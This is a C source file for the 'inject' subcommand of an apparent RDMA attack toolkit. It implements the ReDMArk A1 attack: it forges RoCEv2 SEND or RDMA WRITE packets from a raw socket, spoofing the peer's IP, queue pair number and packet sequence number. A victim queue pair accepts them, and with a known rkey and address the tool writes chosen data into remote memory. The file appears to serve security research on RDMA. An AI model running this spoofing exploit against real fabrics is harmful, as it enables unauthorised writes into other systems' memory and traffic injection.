/* SPDX-License-Identifier: MIT */
/*
 * inject (ReDMArk A1): forge RoCEv2 SEND or RDMA WRITE packets that a victim
 * QP accepts as its peer's. rxe checks only that the IP source is the peer's
 * address, that the QPN exists and that the PSN is exactly the expected one;
 * the ICRC is a checksum anyone can compute.
 */
#include <getopt.h>
#include <string.h>

#include "common/attack.h"

enum { OPT_OP = OPT_FIRST_PRIVATE, OPT_RKEY, OPT_VA, OPT_DATA, OPT_DATA_HEX, OPT_SOLICITED, OPT_NO_ACKREQ };

static void help(FILE *f)
{
	fprintf(f, "Usage: %s inject --dst IP --src IP --qpn N (--psn N | --psn-sweep S:C) [options]\n"
		"Forge RC SEND Only or RDMA WRITE Only packets from a raw socket.\n\n"
		FORGE_HELP
		"  --op send|write       operation (default send)\n"
		"  --rkey N              RDMA WRITE: the victim's rkey (0..0xFFFFFFFF)\n"
		"  --va N                RDMA WRITE: the victim's virtual address\n"
		"  --data TEXT           payload (default \"rdmasec-attack was here\")\n"
		"  --data-hex HEX        payload as hex digits\n"
		"  --solicited           set the BTH solicited-event bit\n"
		"  --no-ack-req          clear the BTH AckReq bit\n"
		"  -h, --help\n\n"
		"Needs CAP_NET_RAW. On the fabric: --iface fab3 from host 3, --src the peer's IP.\n"
		"Exit status: 0 sent, 1 failed, 2 bad usage.\n", PROG);
}

int inject_main(int argc, char *argv[])
{
	static const struct option opts[] = {
		FORGE_LONG_OPTIONS,
		{ "op", required_argument, NULL, OPT_OP },
		{ "rkey", required_argument, NULL, OPT_RKEY },
		{ "va", required_argument, NULL, OPT_VA },
		{ "data", required_argument, NULL, OPT_DATA },
		{ "data-hex", required_argument, NULL, OPT_DATA_HEX },
		{ "solicited", no_argument, NULL, OPT_SOLICITED },
		{ "no-ack-req", no_argument, NULL, OPT_NO_ACKREQ },
		{ "help", no_argument, NULL, 'h' },
		{ 0 },
	};
	static const char default_data[] = "rdmasec-attack was here";
	static uint8_t data[ROCE_MAX_PAYLOAD];
	struct forge_opts o = { .count = 1 };
	struct roce_pkt p = { .ack_req = true };
	bool bad = false, write = false, have_rkey = false, have_va = false;
	size_t data_len = sizeof(default_data) - 1;
	uint64_t va = 0, sent = 0;
	uint32_t rkey = 0;
	char s1[16], s2[16];
	int opt, rc;

	memcpy(data, default_data, data_len);
	while ((opt = getopt_long(argc, argv, "h", opts, NULL)) != -1) {
		if (forge_parse_opt(&o, opt, optarg, &bad))
			continue;
		switch (opt) {
		case OPT_OP:
			if (!strcmp(optarg, "write")) {
				write = true;
			} else if (strcmp(optarg, "send") != 0) {
				fprintf(stderr, "%s inject: --op must be send or write, not `%s'\n", PROG, optarg);
				bad = true;
			}
			break;
		case OPT_RKEY: bad |= !parse_u32(optarg, UINT32_MAX, &rkey, "--rkey"); have_rkey = true; break;
		case OPT_VA: bad |= !parse_u64(optarg, UINT64_MAX, &va, "--va"); have_va = true; break;
		case OPT_DATA:
			data_len = strlen(optarg);
			if (data_len == 0 || data_len > sizeof(data)) {
				fprintf(stderr, "%s inject: --data must be 1..%zu bytes\n", PROG, sizeof(data));
				bad = true;
				break;
			}
			memcpy(data, optarg, data_len);
			break;
		case OPT_DATA_HEX: bad |= !parse_hex(optarg, data, sizeof(data), &data_len, "--data-hex"); break;
		case OPT_SOLICITED: p.solicited = true; break;
		case OPT_NO_ACKREQ: p.ack_req = false; break;
		case 'h': help(stdout); return 0;
		default: help(stderr); return 2;
		}
	}
	if (optind != argc) {
		fprintf(stderr, "%s inject: unexpected argument `%s'\n", PROG, argv[optind]);
		return 2;
	}
	if (!bad && write && (!have_rkey || !have_va)) {
		fprintf(stderr, "%s inject: --op write needs --rkey and --va\n", PROG);
		bad = true;
	}
	if (bad || !forge_check(&o, "inject"))
		return 2;

	p.opcode = write ? ROCE_RC_WRITE_ONLY : ROCE_RC_SEND_ONLY;
	p.reth_va = va;
	p.reth_rkey = rkey;
	p.reth_len = (uint32_t)data_len;
	p.payload = data;
	p.payload_len = data_len;
	rc = forge_run(&o, &p, &sent);
	if (o.json) {
		struct json j;
		json_begin(&j, "inject");
		json_str(&j, "op", write ? "write" : "send");
		json_str(&j, "dst", ipv4_str(o.dst_ip, s1));
		json_str(&j, "src", ipv4_str(o.src_ip, s2));
		json_hex(&j, "qpn", o.qpn);
		json_hex(&j, "psn_first", o.psn);
		json_u64(&j, "count", o.count);
		json_u64(&j, "payload_len", data_len);
		if (write) {
			json_hex(&j, "rkey", rkey);
			json_hex(&j, "va", va);
		}
		json_u64(&j, "sent", sent);
		json_boolean(&j, "ok", rc == 0);
		json_end(&j);
	} else {
		printf("inject: %s %llu forged %s packet(s) %s -> %s qpn 0x%06x psn 0x%06x%s, %zu payload bytes\n",
		       o.no_send ? "built" : "sent", (unsigned long long)sent, write ? "RDMA WRITE Only" : "SEND Only",
		       ipv4_str(o.src_ip, s1), ipv4_str(o.dst_ip, s2), o.qpn, o.psn, o.count > 1 ? " (first)" : "",
		       data_len);
	}
	return rc == 0 ? 0 : 1;
}
